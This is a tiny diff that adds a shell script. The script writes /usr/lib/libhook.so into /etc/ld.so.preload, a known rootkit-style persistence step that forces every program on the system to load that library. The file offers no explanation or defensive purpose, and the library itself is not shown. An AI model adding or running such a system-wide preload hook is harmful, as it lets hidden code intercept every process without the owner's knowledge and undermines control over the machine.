@@ -1,0 +1,2 @@
+#!/bin/sh
+echo /usr/lib/libhook.so >> /etc/ld.so.preload
